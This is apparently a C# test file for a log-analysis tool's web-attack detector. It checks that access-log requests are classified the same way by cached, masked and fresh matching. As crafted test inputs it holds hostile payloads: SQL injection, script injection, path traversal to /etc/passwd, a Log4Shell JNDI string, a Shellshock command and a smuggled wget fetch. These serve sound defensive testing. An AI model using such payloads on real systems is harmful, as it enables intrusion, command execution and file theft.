using LogWarden.Detect.Security;
using LogWarden.Parse;
using LogWarden.Tests.Support;

namespace LogWarden.Tests.Detect.Security;

public sealed class WebVerdictsTests
{
    /// <summary>Access records of the security corpus' web logs and of the synthetic server mix.</summary>
    private static List<WebRequest> Requests()
    {
        var records = new List<LogRecord>();
        foreach (string file in Directory.GetFiles(Path.Combine(SharedData.Root(), "security"), "*.log")
            .Where(f => Path.GetFileName(f).StartsWith("apache", StringComparison.Ordinal) || Path.GetFileName(f).StartsWith("nginx", StringComparison.Ordinal)))
        {
            records.AddRange(new LogFileDecoder(file, new LogFileOptions { Format = "access" }).ReadRecords());
        }
        var synthetic = new SyntheticLogs(7);
        var context = new DecodeContext("access.log");
        for (int i = 0; i < 20_000; i++)
        {
            var (_, file, text) = synthetic.Next();
            if (file == 0 && AccessLogDecoder.Instance.TryDecode(text, context, out LogRecord? record))
            {
                records.Add(record);
            }
        }
        var requests = new List<WebRequest>();
        foreach (LogRecord record in records)
        {
            if (WebRequestClassifier.TryReadFields(record, SecurityDefinitions.Default, out WebRequest request))
            {
                requests.Add(request);
            }
        }
        return requests;
    }

    [Fact]
    public void An_access_line_read_from_its_parts_is_the_request_its_fields_describe()
    {
        var synthetic = new SyntheticLogs(11);
        var context = new DecodeContext("access.log");
        var lines = new List<string>
        {
            "192.0.2.5 - alice [10/Oct/2024:13:55:36 +0000] \"GET /a?b=1 HTTP/1.1\" 200 2326 \"-\" \"curl/8.5.0\"",
            "web.example:443 192.0.2.6 - - [10/Oct/2024:13:55:36 +0000] \"\\x16\\x03\\x01\" 400 0 \"-\" \"-\"",
            "192.0.2.7 - - [10/Oct/2024:13:55:36 +0000] \"GET /x HTTP/1.1\" 404 153 \"-\" \"Mozilla/5.0 \\\"quoted\\\"\"",
            "192.0.2.8 - - [10/Oct/2024:13:55:36 +0000] \"PROPFIND  /dav HTTP/1.1\" 405 0",
        };
        for (int i = 0; i < 5_000; i++)
        {
            var (_, file, text) = synthetic.Next();
            if (file == 0)
            {
                lines.Add(text);
            }
        }

        int read = 0;
        foreach (string text in lines)
        {
            Assert.True(AccessLogDecoder.Instance.TryDecode(text, context, out LogRecord? record), text);
            Assert.True(AccessLogDecoder.IsAccessRecord(record));
            Assert.True(WebRequestClassifier.TryReadFields(record, SecurityDefinitions.Default, out WebRequest fromFields), text);
            if (!AccessLogDecoder.TryReadParts(text, out var parts))
            {
                Assert.Contains('\\', text); // escapes are the fields' to undo
                continue;
            }

            var fromParts = WebRequest.Of(parts);
            read++;
            Assert.Equal(
                (fromFields.Client.ToString(), fromFields.Method.ToString(), fromFields.Target.ToString(), fromFields.Request.ToString(), fromFields.Status, fromFields.UserAgent.ToString()),
                (fromParts.Client.ToString(), fromParts.Method.ToString(), fromParts.Target.ToString(), fromParts.Request.ToString(), fromParts.Status, fromParts.UserAgent.ToString()));
        }

        Assert.True(read > 1_000);
    }

    [Fact]
    public void The_web_lists_behind_their_literal_prefilters_answer_as_their_regexes_do()
    {
        WebDefinitions web = SecurityDefinitions.Default.Web;
        var lists = new[] { (web.Attacks, web.AttackPatterns), (web.AlwaysProbePaths, web.AlwaysProbePathPatterns), (web.ProbePaths, web.ProbePathPatterns), (web.BadAgents, web.BadAgentPatterns) };
        Assert.All(lists, l => Assert.True(l.Item1.Prefiltered, l.Item2.Pattern));

        string[] crafted =
        [
            "/index.php?id=1%27%20OR%201=1--", "/a?q=%3CSCRIPT%3Ealert(1)", "/x?f=..%2F..%2Fetc%2Fpasswd", "/?x=${jndi:ldap://e/a}",
            "/cgi-bin/test.cgi", "/WP-LOGIN.PHP", "/.ENV", "/api/v1/items/17", "/static/js/app.3fa9c1.js", "/HNAP1/", "\\x16\\x03\\x01",
            "Mozilla/5.0 zgrab/0.x", "() { :; }; /bin/bash -c id", "sqlmap/1.7", "curl/8.5.0",
        ];
        var texts = Requests().SelectMany(r => (string[])[r.Target.ToString(), r.UserAgent.ToString(), r.Request.ToString()]).Where(t => t.Length > 0).Concat(crafted).ToList();
        int matches = 0;
        foreach (string text in texts)
        {
            foreach (var (filtered, regex) in lists)
            {
                bool expected = regex.Value.IsMatch(text);
                Assert.True(expected == filtered.IsMatch(text), $"{regex.Pattern[..Math.Min(40, regex.Pattern.Length)]}… on '{text}'");
                matches += expected ? 1 : 0;
            }
        }

        Assert.True(matches > 100, $"{matches} matches: the texts should exercise every list");
    }

    [Fact]
    public void Remembered_verdicts_classify_every_request_as_matching_afresh_does()
    {
        List<WebRequest> requests = Requests();
        WebDefinitions web = SecurityDefinitions.Default.Web;
        var verdicts = new WebVerdicts();
        int events = 0;

        for (int pass = 0; pass < 2; pass++) // the second pass answers from the verdicts
        {
            foreach (WebRequest request in requests)
            {
                var fresh = WebRequestClassifier.Classify(request, web, out var freshTarget);
                var remembered = WebRequestClassifier.Classify(request, web, out var rememberedTarget, verdicts);
                Assert.Equal(fresh, remembered);
                Assert.Equal(freshTarget.ToString(), rememberedTarget.ToString());
                events += fresh is { Hostile: true } ? 1 : 0;
            }
        }

        Assert.True(requests.Count > 10_000);
        Assert.True(events > 200, $"{events} hostile requests: the corpus should exercise every verdict");
    }

    [Fact]
    public void A_target_with_its_delimited_digit_runs_masked_holds_a_list_literal_exactly_when_the_target_does()
    {
        WebDefinitions web = SecurityDefinitions.Default.Web;
        Assert.True(web.DigitBlindTargets); // the built-in lists allow the masked answers: the path below is taken
        Assert.True(TargetDigits.LiteralsAreBlind(["%2e%2e", "w00tw00t", "a1", "%3c", "x9y"]));
        Assert.False(TargetDigits.LiteralsAreBlind(["/1"]));
        Assert.False(TargetDigits.LiteralsAreBlind(["7"]));
        Assert.False(TargetDigits.LiteralsAreBlind(["id=12&"]));
        Assert.True(web.HexBlindTargets); // and hex ids ("app.c59da3.js") are masked too
        Assert.True(TargetDigits.LiteralsAreHexBlind(["%2e%2e", "etc/", "cmd.exe", "eval(", "id"]));
        Assert.False(TargetDigits.LiteralsAreHexBlind(["/cafe"]));
        Assert.False(TargetDigits.LiteralsAreHexBlind(["b."]));

        // Random targets of the pieces that matter: the lists' own literals, digit runs, the delimiters, escapes, letters.
        string[] literals = [.. web.Attacks.Literals, .. web.AlwaysProbePaths.Literals];
        string[] pieces = ["0", "1", "22", "007", "12345", "/", "=", "&", "?", ".", "-", "_", ",", "%", "%2", "a", "e", "x", "v", "w", "id", ";", "'", "(", ":",
            "c59da3", "0ab12f", "deadbeef1", "e2e", "abcdef"];
        var random = new Random(5);
        var texts = Requests().Select(r => r.Target.ToString()).Where(t => t.Length > 0).ToList();
        var builder = new System.Text.StringBuilder();
        for (int i = 0; i < 200_000; i++)
        {
            builder.Clear();
            for (int p = random.Next(1, 8); p > 0; p--)
            {
                builder.Append(random.Next(4) == 0 ? literals[random.Next(literals.Length)] : pieces[random.Next(pieces.Length)]);
            }

            texts.Add(builder.ToString());
        }

        int masked = 0, withLiteral = 0;
        foreach (var (text, hexIds) in texts.SelectMany(t => new[] { (t, false), (t, true) }))
        {
            var buffer = new char[text.Length];
            int length = TargetDigits.Mask(text, buffer, hexIds);
            if (length < 0)
            {
                continue;
            }

            masked++;
            string form = new(buffer, 0, length);
            foreach (var list in new[] { web.Attacks, web.AlwaysProbePaths })
            {
                Assert.True(list.MayMatch(text) == list.MayMatch(form), $"'{text}' → '{form}'");
                withLiteral += list.MayMatch(text) ? 1 : 0;
            }
        }

        Assert.True(masked > 20_000 && withLiteral > 10_000, $"{masked} masked, {withLiteral} with a literal");
    }

    [Fact]
    public void Targets_answered_by_their_masked_form_classify_as_matching_afresh_does()
    {
        WebDefinitions web = SecurityDefinitions.Default.Web;
        var verdicts = new WebVerdicts();
        var synthetic = new SyntheticLogs(31);
        var requests = new List<WebRequest>();
        var context = new DecodeContext("access.log");
        for (int i = 0; i < 30_000; i++)
        {
            var (_, file, text) = synthetic.Next();
            if (file == 0 && AccessLogDecoder.Instance.TryDecode(text, context, out LogRecord? record) && AccessLogDecoder.TryReadParts(record, out var parts))
            {
                requests.Add(WebRequest.Of(parts));
            }
        }

        // Ids beside attacks and probe paths: the digits are masked, the literals are not.
        string[] crafted =
        [
            "/items/1", "/items/22", "/items/1/../../etc/passwd", "/items/22/..%2f..%2fetc/passwd", "/p?id=1", "/p?id=1%27%20or%201=1--",
            "/p?id=2'or'1'='1", "/p?q=1&x=<script>", "/1/.env", "/22/.git/config", "/a/3/wp-config.php.bak", "/v1/eval-stdin.php",
            "/s?x=7;wget http://e/1", "/w00tw00t/1", "/static/1.2.3/app.js", "/f?a=1,2,3", "/-1/_2_/", "http://h:8080/a/1", "http://h/.env/1",
            "/js/app.c59da3.js", "/js/app.0ab12f.js", "/c59da3/.env", "/a1b2c3/../etc/passwd", "/b/e1e2e3.php?x=1", "/x/ab12cd/.git/config",
        ];
        requests.AddRange(crafted.Select(t => new WebRequest("192.0.2.1".AsMemory(), "GET".AsMemory(), t.AsMemory(), default, 404, default)));
        requests.AddRange(Requests());
        foreach (WebRequest request in requests)
        {
            var fresh = WebRequestClassifier.Classify(request, web, out var freshTarget);
            var remembered = WebRequestClassifier.Classify(request, web, out var rememberedTarget, verdicts);
            Assert.True(fresh == remembered, $"{request.Target}: {fresh} fresh, {remembered} remembered");
            Assert.Equal(freshTarget.ToString(), rememberedTarget.ToString());
        }

        Assert.True(verdicts.MaskedAnswers > 1_000, $"{verdicts.MaskedAnswers} targets answered by their masked form");
    }

    [Fact]
    public void A_failed_requests_probe_verdict_remembered_with_its_target_is_the_probe_lists_answer()
    {
        WebDefinitions web = SecurityDefinitions.Default.Web;
        var verdicts = new WebVerdicts();
        Assert.True(verdicts.ProbeListIsBlind(web)); // the built-in probe list's literals meet no id: masked targets keep its answer too

        // Paths only scanners ask for, with and without ids, asked again and again with statuses that fail and that do not;
        // the same target first asked by a success (no probe verdict kept) and then by a failure.
        string[] targets =
        [
            "/wp-login.php", "/wp-login.php?redirect=1", "/phpmyadmin/index.php", "/items/1/wp-admin/", "/items/22/wp-admin/", "/cgi-bin/7/test.cgi",
            "/a/12345/setup.php", "/a/67890/setup.php", "/~user/1", "/shop/17/cart", "/shop/18/cart", "/js/app.c59da3.js", "/js/app.0ab12f.js",
            "/pma/c59da3/", "/api/v1/items/48213", "/api/v1/items/48214", "/img/17.jpg", "/index.html", "/x.php3", "/x.php9", "/a?q=1&p=2",
            "/1/webmail/", "/22/webmail/", "http://h/2/admin.php", "/actuator/3", "/actuator/4/env",
        ];
        int[] statuses = [200, 404, 403, 301, 401, 500, 404];
        int probes = 0;
        for (int pass = 0; pass < 3; pass++)
        {
            foreach (int status in statuses)
            {
                foreach (string target in targets)
                {
                    var request = new WebRequest("203.0.113.9".AsMemory(), "GET".AsMemory(), target.AsMemory(), default, status, default);
                    var fresh = WebRequestClassifier.Classify(request, web, out _);
                    var remembered = WebRequestClassifier.Classify(request, web, out _, verdicts);
                    Assert.True(fresh == remembered, $"{target} {status}: {fresh} fresh, {remembered} remembered");
                    var (attack, alwaysProbe, probe) = verdicts.OfTarget(target, target.StartsWith("http", StringComparison.Ordinal) ? target[8..] : target, web, status >= 400);
                    Assert.Equal(status >= 400 && web.ProbePaths.IsMatch(target.StartsWith("http", StringComparison.Ordinal) ? target[8..] : target), probe);
                    Assert.False(attack || alwaysProbe);
                    probes += probe ? 1 : 0;
                }
            }
        }

        Assert.True(probes > 100, $"{probes} probes");
        Assert.True(verdicts.MaskedAnswers > 100, $"{verdicts.MaskedAnswers} targets answered by their masked form");
    }

    [Fact]
    public void A_method_is_told_as_the_definitions_tell_it_however_many_methods_come()
    {
        WebDefinitions web = SecurityDefinitions.Default.Web;
        var verdicts = new WebVerdicts();
        string[] methods = ["GET", "POST", "HEAD", "get", "PROPFIND", "CONNECT", "OPTIONS", "PUT", "DELETE", "PATCH", "TRACE", "FOO", "G", "", "GETX", "MKCOL"];
        for (int pass = 0; pass < 3; pass++)
        {
            foreach (string method in methods)
            {
                Assert.Equal(web.IsMethod(method), verdicts.IsMethod(method, web));
            }
        }
    }
}
